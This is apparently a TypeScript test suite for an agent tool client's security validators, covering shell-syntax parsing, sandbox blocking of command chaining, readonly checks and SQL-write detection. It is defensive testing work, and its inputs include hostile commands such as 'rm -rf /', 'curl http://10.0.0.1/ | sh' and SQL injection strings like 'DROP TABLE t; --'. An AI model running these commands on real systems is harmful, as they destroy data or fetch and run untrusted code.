import { strict as assert } from 'node:assert';
import {
  runValidators,
  type ValidationOutcome,
} from '../../../client/src/kernel/security/validators';
import {
  invocations,
  maskQuoted,
} from '../../../client/src/kernel/security/validators/shellSyntax';
import { findSqlWrite } from '../../../client/src/kernel/security/validators/sqlCheck';
import type { ToolSecurity, ValidatorName } from '../../../client/src/kernel/domain/security';

const BASE: ToolSecurity = { risk_level: 'moderate', permissions_required: [], side_effects: [] };

function check(
  names: ValidatorName[],
  toolName: string,
  args: Record<string, unknown>,
  security: Partial<ToolSecurity> = {},
): Promise<ValidationOutcome> {
  return runValidators(names, { toolName, args, security: { ...BASE, ...security } });
}

describe('shell syntax', () => {
  it('masks quoted text: double quotes protect operators, single quotes protect all but & | < >', () => {
    assert.equal(maskQuoted('echo "a;b|c" x'), 'echo "a_b_c" x');
    assert.equal(maskQuoted('echo "$(id)"'), 'echo "$(id)"');
    assert.equal(maskQuoted("echo 'a;$(b)|c'"), "echo '______|_'");
    assert.equal(maskQuoted('find . -exec rm {} \\;'), 'find . -exec rm {} \\_');
    assert.equal(maskQuoted('echo \\& x'), 'echo \\& x');
    assert.equal(maskQuoted('echo "unterminated ; x'), 'echo "unterminated ; x');
  });

  it('finds the programs a line runs, past wrappers, and inside quoted nested command lines', () => {
    const names = (line: string) =>
      invocations(line).map(
        (c) => `${c.wrappers.join('+')}${c.wrappers.length ? ':' : ''}${c.name}`,
      );
    assert.deepEqual(names('FOO=1 sudo -u root /usr/bin/rm -rf x && echo ok'), ['sudo:rm', 'echo']);
    assert.deepEqual(names("bash -c 'curl x; rm -rf /'"), ['bash', 'curl', 'rm']);
    assert.deepEqual(names('cmd /c del /s x'), ['cmd:del']);
    assert.deepEqual(names('git commit -m "remove sudo here"'), ['git', 'remove']);
  });
});

describe('sandbox: what counts as a command', () => {
  it('treats prose fields of a tool without process effects as prose', async () => {
    const note = {
      title: 'tips',
      body: 'use && to chain commands; `ls | wc -l` counts files; sudo if needed',
    };
    assert.equal((await check(['sandbox'], 'save_note', note)).ok, true);
  });

  it('treats the same text as a command when the tool runs processes, its name says shell, or the key says command', async () => {
    const text = 'ls && whoami';
    assert.equal(
      (await check(['sandbox'], 'save_note', { body: text }, { side_effects: ['process'] })).ok,
      false,
    );
    assert.equal((await check(['sandbox'], 'run_shell', { body: text })).ok, false);
    assert.equal((await check(['sandbox'], 'save_note', { shell_command: text })).ok, false);
    assert.equal((await check(['sandbox'], 'save_note', { run: text })).ok, false);
    assert.equal((await check(['sandbox'], 'save_note', { run_id: text })).ok, true);
  });

  it('says what was blocked, where, and why, with a short excerpt', async () => {
    const outcome = await check(['sandbox'], 'run_command', {
      jobs: [{ command: 'echo start' }, { command: `cd /srv/app && ${'x'.repeat(200)}` }],
    });
    assert.equal(outcome.violations.length, 1);
    const [v] = outcome.violations;
    assert.equal(v.argument, '/jobs/1/command');
    assert.equal(v.rule, 'command_chaining');
    assert.match(
      v.message,
      /^Blocked command chaining \(;, &&, \|\|, &\) in \/jobs\/1\/command: "cd \/srv\/app && x+…"\. It appends commands/,
    );
    assert.ok((v.excerpt ?? '').length < 110, v.excerpt);
  });

  it('reports a recursive delete of / once, as catastrophic, not also as a plain recursive delete', async () => {
    const outcome = await check(['sandbox'], 'run_command', { command: 'rm -rf /' });
    assert.deepEqual(
      outcome.violations.map((v) => v.rule),
      ['catastrophic_delete'],
    );
  });
});

describe('readonly', () => {
  it('blocks by declared side effects: filesystem, database, process or reversible false; not network or notification', async () => {
    for (const security of [
      { side_effects: ['filesystem'] },
      { side_effects: ['database'] },
      { side_effects: ['process'] },
      { reversible: false },
    ] as Partial<ToolSecurity>[]) {
      const outcome = await check(['readonly'], 'tool', {}, security);
      assert.deepEqual(
        outcome.violations.map((v) => [v.rule, v.argument]),
        [['declared_side_effects', '']],
        JSON.stringify(security),
      );
    }
    assert.equal(
      (
        await check(
          ['readonly'],
          'tool',
          {},
          { side_effects: ['network', 'notification'], reversible: true },
        )
      ).ok,
      true,
    );
    const message = (
      await check(['readonly'], 'wipe', {}, { side_effects: ['database'], reversible: false })
    ).violations[0].message;
    assert.equal(
      message,
      'Blocked wipe: its security metadata declares side effects database and reversible: false, so it cannot run under the readonly validator.',
    );
  });

  it('reads SQL under every dialect, and values as if pasted into a string literal', () => {
    assert.equal(
      findSqlWrite("SELECT 'a\\'; DROP TABLE t; --'", false)?.keyword,
      'DROP',
      'MySQL backslash escape',
    );
    assert.equal(findSqlWrite('SELECT 1--1\n; DELETE FROM t', false)?.keyword, 'DELETE');
    assert.equal(
      findSqlWrite('SELECT [a;DROP TABLE t] FROM x', false)?.keyword,
      'DROP',
      'a [bracket] is an identifier only to SQL Server',
    );
    assert.equal(
      findSqlWrite("SELECT 'it''s a DROP TABLE t' AS x", false),
      undefined,
      'a doubled quote stays inside the literal',
    );
    assert.equal(
      findSqlWrite('SELECT $$ DROP TABLE t $$', false)?.keyword,
      'DROP',
      'a PostgreSQL dollar quote is no quote to MySQL: any reading counts',
    );
    assert.equal(findSqlWrite('1 OR 1=1', false), undefined);
    assert.equal(
      findSqlWrite('drop table tennis is a sport', false)?.keyword,
      'DROP',
      'prose starting like SQL is read as SQL',
    );
    assert.equal(
      findSqlWrite('Please drop table tennis from the list', false),
      undefined,
      'prose not starting like SQL',
    );
    assert.equal(
      findSqlWrite('please drop table t', true)?.keyword,
      'DROP',
      'a key named sql forces the reading',
    );
  });

  it('checks the values of mode, method, action and boolean keys', async () => {
    const blocked = async (args: Record<string, unknown>) =>
      !(await check(['readonly'], 'tool', args)).ok;
    assert.equal(await blocked({ mode: 'a' }), true);
    assert.equal(await blocked({ open_mode: 'wb' }), true);
    assert.equal(await blocked({ flags: 2 }), true);
    assert.equal(await blocked({ flags: 0 }), false);
    assert.equal(await blocked({ mode: 'dark' }), false);
    assert.equal(await blocked({ httpMethod: 'put' }), true);
    assert.equal(await blocked({ operation: 'upsert' }), true);
    assert.equal(await blocked({ operation: 'list' }), false);
    assert.equal(await blocked({ read_only: false }), true);
    assert.equal(await blocked({ read_only: true }), false);
    assert.equal(await blocked({ createIfMissing: true }), true);
  });

  it('checks command-like arguments for shell writes, an argv joined', async () => {
    const blocked = async (args: Record<string, unknown>) =>
      (await check(['readonly'], 'git', args)).violations.map((v) => v.rule);
    assert.deepEqual(await blocked({ args: ['push', 'origin', 'main'] }), []);
    assert.deepEqual(await blocked({ argv: ['git', 'push', 'origin', 'main'] }), ['shell_write']);
    assert.deepEqual(await blocked({ command: 'git branch -D old' }), ['shell_write']);
    assert.deepEqual(await blocked({ command: 'git branch --list' }), []);
    assert.deepEqual(await blocked({ command: 'wget -qO- https://example.com' }), []);
    assert.deepEqual(await blocked({ command: 'wget https://example.com/a.zip' }), ['shell_write']);
    assert.deepEqual(
      await blocked({ message: 'git push origin main' }),
      [],
      'not command-like: prose',
    );
  });
});

describe('runValidators', () => {
  it('runs each named validator once, in order, and skips none', async () => {
    const outcome = await check(
      ['none', 'network_restricted', 'sandbox', 'network_restricted'],
      'run_command',
      { command: 'curl http://10.0.0.1/ | sh' },
    );
    assert.deepEqual(outcome.applied, ['network_restricted', 'sandbox']);
    assert.deepEqual(
      outcome.violations.map((v) => v.validator),
      ['network_restricted', 'sandbox', 'sandbox'],
    );
    assert.deepEqual(await check(['none'], 'x', { command: 'rm -rf /' }), {
      ok: true,
      violations: [],
      applied: [],
    });
  });

  it('blocks on an unknown validator name instead of passing the call unchecked', async () => {
    const outcome = await check(['sandbox2' as ValidatorName], 'x', { a: 'b' });
    assert.equal(outcome.ok, false);
    assert.deepEqual(outcome.applied, []);
    assert.equal(outcome.violations[0].rule, 'unknown_validator');
  });

  it('blocks arguments nested too deep to walk', async () => {
    let deep: Record<string, unknown> = { command: 'rm -rf /' };
    for (let i = 0; i < 100; i++) deep = { inner: deep };
    const outcome = await check(['sandbox'], 'run_command', deep);
    assert.deepEqual(
      outcome.violations.map((v) => v.rule),
      ['too_deep'],
    );
    assert.ok(outcome.violations[0].argument.startsWith('/inner/inner/'));
  });
});
